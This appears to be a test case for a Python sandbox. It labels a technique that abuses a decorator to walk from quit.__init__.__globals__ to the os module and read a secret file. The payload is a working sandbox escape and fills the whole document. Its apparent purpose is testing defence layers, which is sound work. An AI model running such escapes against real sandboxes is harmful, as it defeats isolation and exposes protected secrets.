# class: object graph walk
# technique: a forbidden attribute in a decorator
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
@(lambda function: quit.__init__.__globals__)
def g():
    pass
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
